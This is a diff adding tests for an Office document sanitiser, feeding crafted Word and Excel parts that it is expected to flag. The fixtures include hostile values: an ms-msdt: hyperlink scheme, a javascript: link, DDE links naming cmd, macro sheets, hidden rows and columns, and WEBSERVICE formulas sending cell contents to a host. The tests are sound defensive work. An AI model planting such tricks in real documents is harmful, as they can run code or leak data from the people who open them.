@@ -121,6 +121,102 @@ describe('a Word file', () => {
   }, 60_000)
 })
 
+describe('what was called otherwise', () => {
+  const links = async (bytes: Buffer): Promise<unknown> => cleanOffice(bytes).then((answer) => ('lienKet' in answer ? answer.lienKet : answer))
+  const run = (code: string): string => `<w:r><w:instrText>${code}</w:instrText></w:r>`
+  const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
+  it.each<[string, Buffer, unknown]>([
+    ['a field with an anchor leads where it leads', docxOf({ body: field('HYPERLINK "https://x.example/a" \\l "b"') }), ['https://x.example/a']],
+    ['whatever stands first', docxOf({ body: field('HYPERLINK \\l "b" "https://x.example/a"') }), ['https://x.example/a']],
+    ['an anchor alone leads nowhere', docxOf({ body: field('HYPERLINK \\l "b"') }), []],
+    ['another scheme', docxOf({ body: field('HYPERLINK "ms-msdt:/id Diag" \\l "a"') }), { badLink: 'ms-msdt:/id Diag' }],
+    ['a script in a simple field', docxOf({ body: '<w:fldSimple w:instr="HYPERLINK javascript:alert(1) \\l a"/>' }), { badLink: 'javascript:alert(1)' }],
+    [
+      'a field in the words of a link',
+      docxOf({ body: mark('begin') + run('HYPERLINK ') + mark('begin') + run('QUOTE "file://x"') + mark('end') + mark('end') }),
+      { fault: 'field' },
+    ],
+    [
+      'a field whose name a field says',
+      docxOf({ body: mark('begin') + mark('begin') + run('QUOTE HYPERLINK') + mark('end') + run(' "http://x"') + mark('end') }),
+      { fault: 'field' },
+    ],
+    [
+      'a list of contents with its links',
+      docxOf({
+        body: mark('begin') + run('TOC \\o') + mark('separate') + mark('begin') + run('HYPERLINK \\l "_Toc1"') + mark('separate') + mark('end') + mark('end'),
+      }),
+      [],
+    ],
+    [
+      'a picture fetched by a link',
+      docxOf({ rels: relation('rId3', 'hyperlink', 'https://x.example/a.png', true), body: '<a:blip r:link="rId3"/>' }),
+      { fault: 'external' },
+    ],
+    ['another document', docxOf({ body: '<w:subDoc r:id="rId3"/>' }), { fault: 'embedded' }],
+    ['hidden under a prefix of its own', docxOf({ body: '<q:vanish w:val="0" q:val="1"/>' }), { fault: 'hidden' }],
+    ['hidden switched off is not written', docxOf({ body: '<w:vanish w:val="0"/>' }), []],
+    [
+      'a name that says one thing and a part that is another',
+      xlsxOf({ more: { 'xl/styles.xml': '<connections><dbPr/></connections>' } }),
+      { fault: 'unknown' },
+    ],
+  ])('%s', async (_what, bytes, expected) => expect(await links(bytes)).toEqual(expected))
+
+  const excel = (rels: string, more: Record<string, string>): Buffer => {
+    const parts = unzipSync(xlsxOf())
+    const own = Buffer.from(parts['xl/_rels/workbook.xml.rels']!).toString().replace('</Relationships>', `${rels}</Relationships>`)
+    return Buffer.from(zipSync({ ...parts, 'xl/_rels/workbook.xml.rels': Buffer.from(own), ...Object.fromEntries(Object.entries(more).map(([name, text]) => [name, Buffer.from(text)])) })) // prettier-ignore
+  }
+  it.each<[string, Buffer, unknown]>([
+    ['connections', excel(relation('rId7', 'connections', 'x.xml'), { 'xl/x.xml': '<connections/>' }), { fault: 'external' }],
+    [
+      'a link to another book',
+      excel(relation('rId7', 'externalLink', 'x.xml'), { 'xl/x.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
+      { fault: 'external' },
+    ],
+    ['a sheet of macros', excel(relation('rId7', 'xlMacrosheet', 'x.xml'), { 'xl/x.xml': '<macrosheet/>' }), { fault: 'macro' }],
+    ['remarks', excel(relation('rId7', 'comments', 'x.xml'), { 'xl/x.xml': '<comments/>' }), { fault: 'comments' }],
+    [
+      'a sheet nobody can turn to',
+      excel(relation('rId7', 'worksheet', 'worksheets/sheet2.xml'), { 'xl/worksheets/sheet2.xml': '<worksheet/>' }),
+      { fault: 'hidden' },
+    ],
+    [
+      'a link to another book, called styles',
+      excel(relation('rId7', 'styles', 'x.xml'), { 'xl/x.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
+      { fault: 'unknown' },
+    ],
+    ['one part that is two things', excel(relation('rId7', 'styles', 'worksheets/sheet1.xml'), {}), { fault: 'unknown' }],
+    ['what nobody knows is left out', excel(relation('rId7', 'something', 'x.xml'), { 'xl/x.xml': '<x/>' }), []],
+    ['a cell that says not where it stands', xlsxOf({ rows: '<row r="2" hidden="1"><c><v>9</v></c></row>' }), { fault: 'hidden' }],
+    [
+      'the second cell of a hidden column',
+      xlsxOf({ before: '<cols><col min="2" max="2" hidden="1"/></cols>', rows: '<row><c><v>1</v></c><c><v>9</v></c></row>' }),
+      { fault: 'hidden' },
+    ],
+    ['an odd place', xlsxOf({ cells: '<c r="$A2"><v>9</v></c>' }), { fault: 'unknown' }],
+    ['a column of no width', xlsxOf({ before: '<cols><col min="1" max="1" width="0.10"/></cols>' }), { fault: 'hidden' }],
+    ['a row of no height', xlsxOf({ rows: '<row r="2" ht="0.0"><c r="A2"><v>9</v></c></row>' }), { fault: 'hidden' }],
+    ['rows hidden all at once', xlsxOf({ before: '<sheetFormatPr zeroHeight="1"/>' }), { fault: 'hidden' }],
+    ['a state with a blank', xlsxOf({ sheets: '<sheet name="A" sheetId="1" r:id="rId1" state="hidden "/>' }), { fault: 'hidden' }],
+    ['behind a column name', xlsxOf({ cells: '<c><f>T[x\'#]&amp;WEBSERVICE("http://x/"&amp;B1)&amp;T[x\'#]</f></c>' }), { fault: 'formula' }],
+    ['handed on by its name', xlsxOf({ cells: '<c><f>MAP(B1,_xleta.WEBSERVICE)</f></c>' }), { fault: 'formula' }],
+    ['a link handed on', xlsxOf({ cells: '<c><f>MAP(B1,_xleta.HYPERLINK)</f></c>' }), { fault: 'formula' }],
+    ['a word in a text, a sheet and a table', xlsxOf({ cells: '<c><f>"CALL("&amp;Image!A1&amp;\'RTD a\'!B2&amp;T[CALL]</f></c>' }), []],
+  ])('%s', async (_what, bytes, expected) => expect(await links(bytes)).toEqual(expected))
+
+  it('many columns, cells, elements and texts are read in their time or refused', async () => {
+    const columns = xlsxOf({ before: `<cols>${'<col min="1" max="16384" hidden="1"/>'.repeat(16_000)}</cols>`, cells: '<c/>'.repeat(400_000) })
+    const from = performance.now()
+    expect(await cleanOffice(columns)).toHaveProperty('bytes')
+    expect(await cleanOffice(docxOf({ body: '<w:r/>'.repeat(4_000_000) }))).toEqual({ refused: 'OFFICE_TOO_LARGE' })
+    expect(await cleanOffice(docxOf({ body: `<w:t>${'&amp;'.repeat(4_500_000)}</w:t>` }))).toEqual({ refused: 'OFFICE_TOO_LARGE' })
+    // What grows with its square takes minutes.
+    expect(performance.now() - from).toBeLessThan(60_000)
+  }, 120_000)
+})
+
 describe('an Excel file', () => {
   it('keeps its cells, without the folder it lay in', async () => {
     const { bytes } = await taken(xlsxOf({ cells: '<c r="A1"><f>SUM(B1:B3)</f><v>6</v></c><c r="A2"><f>HYPERLINK("https://moet.gov.vn/","Bộ")</f></c>' }))
